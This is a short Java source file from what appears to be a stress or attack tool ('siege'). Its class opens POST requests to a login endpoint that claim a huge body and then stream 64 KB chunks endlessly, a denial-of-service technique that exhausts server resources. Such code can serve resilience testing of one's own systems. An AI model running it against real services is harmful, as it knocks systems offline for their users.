package io.turbozap.siege;

import java.io.IOException;

/** Large bodies of a log-in, as fast as they are taken, whose end never comes. */
final class LoginBodies extends Crowd {

    private static final byte[] MORE = new byte[64 * 1024];

    LoginBodies(Target target) {
        super(target);
    }

    @Override
    void begin(Peer peer) throws IOException {
        peer.write(target.head(
                "POST /api/login", "Content-Type: application/json", "Content-Length: 1000000", "\r\n{\"key\":\""));
    }

    @Override
    void goOn(Peer peer) throws IOException {
        requireOpen(peer);
        peer.write(MORE);
    }
}
